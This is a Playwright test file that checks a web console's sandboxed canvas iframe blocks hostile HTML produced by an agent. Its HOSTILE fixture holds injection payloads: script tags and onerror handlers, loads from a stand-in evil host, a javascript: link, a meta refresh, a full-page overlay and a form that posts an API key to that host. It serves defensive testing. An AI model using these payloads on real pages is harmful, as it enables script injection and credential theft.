// HTML that an agent shows: it looks as it was made, and can do nothing.
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { Conversation } from './conversation';
import { expect, test } from './fixtures';
import { EVIL, SVG } from './hostile';
import type { Mesh } from './mesh';

/** What the browser says of contents that the policy of the frame, or its sandbox, stops. */
const STOPPED = /Content Security Policy|content-security-policy|^policy: |sandboxed|blocked an? |unsafe attempt|Refused to/i;

const STYLED = `<style>h1 { color: rgb(1, 2, 3) }</style><h1 style="letter-spacing: 7px">Plan of the week</h1>
  <table bgcolor="#ffffff"><tr><td>Monday</td></tr></table><img id="dot" alt="dot" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">`;

const HOSTILE = `<title>x</title><base href="${EVIL}/">
  <script>parent.pwned('canvas script')</script><script src="${EVIL}/x.js"></script><script src="/console/assets/index.js"></script>
  <img src=x onerror="parent.pwned('canvas img')"><img src="${EVIL}/pixel.png"><link rel="stylesheet" href="${EVIL}/style.css"><link rel="preload" as="image" href="${EVIL}/p.png">
  <style>@import '${EVIL}/import.css'; body { background: url(${EVIL}/bg.png) } @font-face { font-family: f; src: url(${EVIL}/f.woff2) } p { font-family: f }
    #cover { position: fixed; inset: -2000px; z-index: 2147483647; background: red }</style>
  <iframe srcdoc="<script>parent.parent.pwned('canvas srcdoc')</script>"></iframe><iframe src="${EVIL}/frame"></iframe><iframe src="/console/"></iframe>
  <object data="${EVIL}/o"></object><embed src="${EVIL}/e"><video src="${EVIL}/v" autoplay></video>${SVG}
  <a id="top" href="${EVIL}/top" target="_top">top</a> <a id="blank" href="${EVIL}/blank" target="_blank">blank</a> <a id="run" href="javascript:parent.pwned('canvas link')">run</a>
  <form action="${EVIL}/form" method="post" target="_top"><label>API key <input name="key"></label><button>Sign in</button></form>
  <p>The end of it</p><div id="cover"></div>`;

async function show(page: Page, mesh: Mesh, name: string, html: string) {
  const conversation = new Conversation(page, mesh);
  await mesh.model.answer(name, { text: 'I show it.', calls: [{ tool: 'canvas', input: { action: 'present', title: name, html } }] }, { text: 'It is shown.' });
  await conversation.begin();
  await conversation.send(name);
  await conversation.expectSaid('It is shown.');
  await page.getByRole('button', { name: 'Canvas', exact: true }).click();
  const canvas = page.getByRole('complementary', { name: 'Canvas' });
  return { canvas, frame: canvas.frameLocator('iframe') };
}

test('HTML of an agent has its own styles', async ({ signedIn, mesh }) => {
  const { canvas, frame } = await show(signedIn, mesh, 'Show the plan', STYLED);

  const heading = frame.getByRole('heading', { name: 'Plan of the week' });
  await expect(heading).toBeVisible();
  await expect(heading).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(heading).toHaveCSS('letter-spacing', '7px');
  await expect(frame.locator('#dot')).toHaveJSProperty('complete', true);
  await expect(canvas.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
});

test('HTML of an agent runs nothing, loads nothing, sends nothing and stays in its place', async ({ signedIn, mesh, watcher }) => {
  // Of requests that the policy stops the browser tells too.
  watcher.allow(STOPPED, /^request: https:\/\/evil/);
  const foreign = new Map<string, string>();
  signedIn.on('request', (request) => request.url().startsWith(EVIL) && foreign.set(request.url(), 'sent'));
  signedIn.on('requestfailed', (request) => foreign.has(request.url()) && foreign.set(request.url(), request.failure()?.errorText ?? ''));
  const { canvas, frame } = await show(signedIn, mesh, 'Show the attack', HOSTILE);
  await expect(frame.getByText('The end of it')).toBeAttached();
  const address = signedIn.url();

  await frame.getByLabel('API key').fill('hf_secret');
  for (const target of ['button', '#top', '#blank', '#run']) await frame.locator(target).dispatchEvent('click');

  // What covers the frame covers nothing else.
  const box = (await canvas.locator('iframe').boundingBox())!;
  const inside = await signedIn.evaluate(({ x, y }) => document.elementFromPoint(x, y)?.tagName, { x: box.x - 10, y: box.y + 10 });
  expect(inside).not.toBe('IFRAME');
  await expect(signedIn.getByRole('button', { name: 'Close the canvas' })).toBeVisible();
  expect(signedIn.url()).toBe(address);
  expect(signedIn.context().pages().length).toBe(1);
  expect([...foreign].filter(([, state]) => state !== 'csp'), 'requests that the policy has not stopped').toEqual([]);
  // Neither the page nor anything that it keeps is within its reach.
  const inner = signedIn.frames().find((one) => one.url().endsWith('/console/frame.html'))!;
  expect(await inner.evaluate(() => [origin, (() => { try { return String(parent.document); } catch { return 'refused'; } })()])).toEqual(['null', 'refused']);
});

test('HTML of an agent that goes elsewhere leads nobody there', async ({ signedIn, mesh, watcher }) => {
  watcher.allow(STOPPED);
  const { canvas } = await show(signedIn, mesh, 'Show the way out', `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><p>gone</p>`);
  await expect(canvas.locator('iframe')).toBeVisible();

  // The browser refuses the address, and shows its own page in the place of the frame.
  await expect.poll(() => signedIn.frames().map((frame) => frame.url()).filter((url) => /evil|chrome-error/.test(url)).length).toBeGreaterThan(0);
  await expect(signedIn.getByRole('button', { name: 'Close the canvas' })).toBeVisible();
  expect(new URL(signedIn.url()).origin).toBe(mesh.url);
});

test('the page takes no messages of the frame or of other windows, and the frame those of the page only', async ({ page, signIn, mesh, watcher }) => {
  watcher.allow(STOPPED);
  await page.addInitScript(() => {
    const listeners: string[] = [];
    Object.assign(window, { listeners });
    const add = EventTarget.prototype.addEventListener;
    EventTarget.prototype.addEventListener = function (type: string, ...rest) {
      if (type === 'message' && (this ?? window) === window) listeners.push(new Error().stack ?? '');
      return add.call(this, type, ...rest);
    };
  });
  await signIn(page);
  const { frame } = await show(page, mesh, 'Show the messages', '<p>Plan of the day</p>');
  await expect(frame.getByText('Plan of the day')).toBeVisible();
  const inner = page.frames().find((one) => one.url().endsWith('/console/frame.html'))!;
  const state = () => page.evaluate(() => [location.href, document.title, document.body.innerText, JSON.stringify([{ ...localStorage }, { ...sessionStorage }])]);
  const before = await state();

  await inner.evaluate(async (url) => {
    const call = { type: 'req', id: '1', method: 'chat.send', params: { message: 'from the frame' } };
    for (const message of ['<h1>taken</h1>', `${url}/console/#link=x`, JSON.stringify(call), call, { type: 'event', event: 'approval.decided' }]) parent.postMessage(message, '*');
    // The frame's own script hears this one.
    window.postMessage('<h1>taken</h1>', '*');
    await new Promise((resolve) => setTimeout(resolve));
  }, mesh.url);

  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
  expect(await state()).toEqual(before);
  await expect(frame.getByText('Plan of the day')).toBeVisible();
  await expect(frame.getByText('taken')).toHaveCount(0);
  const ofPage = await page.evaluate(() => [(window as unknown as { listeners: string[] }).listeners, window.onmessage]);
  expect(ofPage, 'who listens to messages').toEqual([[], null]);
});

test('only the console shows the frame, and only its own script runs in it', async ({ mesh }) => {
  const answer = await fetch(`${mesh.url}/console/frame.html`);
  const policy = (answer.headers.get('content-security-policy') ?? '').split(/;\s*/);
  const html = await answer.text();
  const script = html.match(/<script>(.*?)<\/script>/s)![1]!;
  const hash = createHash('sha256').update(script).digest('base64');

  for (const part of ["default-src 'none'", `script-src 'sha256-${hash}'`, "style-src 'unsafe-inline'", "frame-ancestors 'self'", "form-action 'none'", 'sandbox allow-scripts']) {
    expect(policy).toContain(part);
  }
  expect(html).toBe(readFileSync('public/frame.html', 'utf8'));
});
